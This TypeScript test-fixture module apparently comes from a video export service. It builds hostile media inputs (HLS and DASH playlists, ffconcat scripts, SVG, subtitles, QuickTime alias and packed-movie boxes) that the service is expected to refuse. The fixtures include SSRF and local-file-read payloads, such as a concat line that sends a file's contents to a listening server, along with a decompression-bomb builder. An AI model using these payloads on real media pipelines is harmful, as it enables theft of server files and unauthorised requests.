// Files that try to make whoever opens them read other files, call servers, or use up the machine.
import { deflateSync } from 'node:zlib';
import type { FailureCode } from '@export-jobs/protocol';

/** What a hostile file would like to reach. */
export interface Prey {
  /** The path of a real film. */
  readonly file: string;
  /** A real film beside the source. */
  readonly sibling: string;
  /** `http://127.0.0.1:<port>`, where somebody listens. */
  readonly server: string;
}

export interface Trick {
  readonly name: string;
  readonly make: (prey: Prey) => string;
  /** The demuxer that falls for it when it is let; undefined where none is known. */
  readonly demuxer?: string;
}

/** What each of these is refused with. */
export const REFUSED: readonly FailureCode[] = ['input_unsupported', 'input_invalid'];

const playlist = (...lines: string[]) =>
  ['#EXTM3U', '#EXT-X-VERSION:7', '#EXT-X-TARGETDURATION:10', '#EXT-X-MEDIA-SEQUENCE:0', ...lines]
    .join('\n')
    .concat('\n#EXT-X-ENDLIST\n');
const segment = (address: string) => ['#EXTINF:10.0,', address];
const manifest = (base: string) => `<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"
  minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
<Period><AdaptationSet mimeType="video/mp4" contentType="video"><Representation id="v" bandwidth="1000">
<BaseURL>${base}</BaseURL><SegmentList duration="10"><SegmentURL media="${base}"/></SegmentList>
</Representation></AdaptationSet></Period></MPD>`;

export const TRICKS: readonly Trick[] = [
  {
    name: 'an HLS playlist of a local file',
    make: ({ file }) => playlist(...segment(file)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist of a local file by file:',
    make: ({ file }) => playlist(...segment(`file://${file}`)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist of a file beside it',
    make: ({ sibling }) => playlist(...segment(sibling)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist of a server',
    make: ({ server }) => playlist(...segment(`${server}/film.mp4`)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist whose first bytes are on a server',
    make: ({ server, file }) => playlist(`#EXT-X-MAP:URI="${server}/init.mp4"`, ...segment(file)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist whose key is on a server',
    make: ({ server, file }) =>
      playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${server}/key"`, ...segment(file)),
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist of playlists',
    make: ({ server }) => `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n${server}/list.m3u8\n`,
    demuxer: 'hls',
  },
  {
    name: 'an HLS playlist that joins a secret to an address',
    make: ({ server, file }) => playlist(...segment(`concat:${server}/?|file:${file}`)),
  },
  {
    name: 'a concat script of a local file',
    make: ({ file }) => `ffconcat version 1.0\nfile '${file}'\n`,
    demuxer: 'concat',
  },
  {
    name: 'a concat script of a file beside it',
    make: ({ sibling }) => `ffconcat version 1.0\nfile '${sibling}'\n`,
    demuxer: 'concat',
  },
  {
    name: 'a concat script of a server',
    make: ({ server }) => `ffconcat version 1.0\nfile '${server}/film.mp4'\n`,
    demuxer: 'concat',
  },
  {
    name: 'a concat script of part of a file',
    make: ({ file }) => `ffconcat version 1.0\nfile 'subfile,,start,0,end,0,,:${file}'\n`,
    demuxer: 'concat',
  },
  {
    name: 'a DASH manifest of a local file',
    make: ({ file }) => manifest(`file://${file}`),
    demuxer: 'dash',
  },
  {
    name: 'a DASH manifest of a server',
    make: ({ server }) => manifest(`${server}/film.mp4`),
    demuxer: 'dash',
  },
  {
    name: 'a session description that opens ports',
    make: () =>
      'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n' +
      'a=rtpmap:96 H264/90000\n',
  },
  {
    name: 'an IMF package',
    make: () =>
      '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">' +
      '</CompositionPlaylist>',
  },
  {
    name: 'an index of subtitles, which has a file beside it',
    make: () =>
      '# VobSub index file, v7 (do not modify this line!)\nsize: 720x480\nid: en, index: 0\n',
  },
  {
    name: 'an XSPF playlist',
    make: ({ file }) =>
      `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>` +
      `<location>file://${file}</location></track></trackList></playlist>`,
  },
  { name: 'a PLS playlist', make: ({ file }) => `[playlist]\nFile1=${file}\nNumberOfEntries=1\n` },
  { name: 'an M3U list', make: ({ server }) => `#EXTM3U\n#EXTINF:1,x\n${server}/film.mp4\n` },
  { name: 'an ASF reference', make: ({ server }) => `[Reference]\r\nRef1=${server}/film.asf\r\n` },
  {
    name: 'a picture that includes another',
    make: ({ file, server }) =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64"
       height="64"><image xlink:href="file://${file}"/><image xlink:href="${server}/x.png"/></svg>`,
  },
  { name: 'a data: address', make: () => `data:video/mp4;base64,${'AAAA'.repeat(20)}` },
  { name: 'a tee address', make: ({ file }) => `tee:${file}|${file}.copy` },
  { name: 'a list of patterns', make: () => '/etc/%*s\n/tmp/%03d.png\n' },
  {
    name: 'subtitles that name a font by its path',
    make: ({ file }) =>
      `[Script Info]\nScriptType: v4.00+\n[Events]\nFormat: Layer, Start, End, Text\n` +
      `Dialogue: 0,0:00:00.00,0:00:05.00,{\\fn${file}}x\n`,
  },
  {
    name: 'subtitles',
    make: ({ file }) => `1\n00:00:00,000 --> 00:00:05,000\n<font face="${file}">x\n`,
  },
];

/** A box of MP4. */
export function box(type: string, ...inside: (Buffer | string)[]): Buffer {
  const body = Buffer.concat(inside.map((part) => Buffer.from(part)));
  const head = Buffer.alloc(8, type.padStart(8));
  head.writeUInt32BE(body.length + 8);
  return Buffer.concat([head, body]);
}

export function uint32(...values: number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  for (const [i, value] of values.entries()) bytes.writeUInt32BE(value, i * 4);
  return bytes;
}

/** A movie whose index is packed, and says that it unpacks to this many bytes. */
export function packedMovie(said: number, packed: Buffer): Buffer {
  const cmvd = box('cmvd', uint32(said), deflateSync(packed));
  return Buffer.concat([
    box('ftyp', 'qt  ', uint32(0), 'qt  '),
    box('moov', box('cmov', box('dcom', 'zlib'), cmvd)),
    box('mdat', 'x'),
  ]);
}

/** An alias as old Macintoshes wrote it, of an absolute path: where a movie says that its data is. */
export function aliasTo(file: string): Buffer {
  const record = Buffer.alloc(150);
  record.writeUInt16BE(2, 6);
  const path = Buffer.from(file);
  const end = (type: number, text: Buffer) => {
    const padded = Buffer.alloc(text.length + (text.length % 2));
    text.copy(padded);
    const head = Buffer.alloc(4);
    head.writeInt16BE(type);
    head.writeUInt16BE(text.length, 2);
    return Buffer.concat([head, padded]);
  };
  return box('alis', uint32(0), record, end(2, path), end(18, path), end(-1, Buffer.alloc(0)));
}
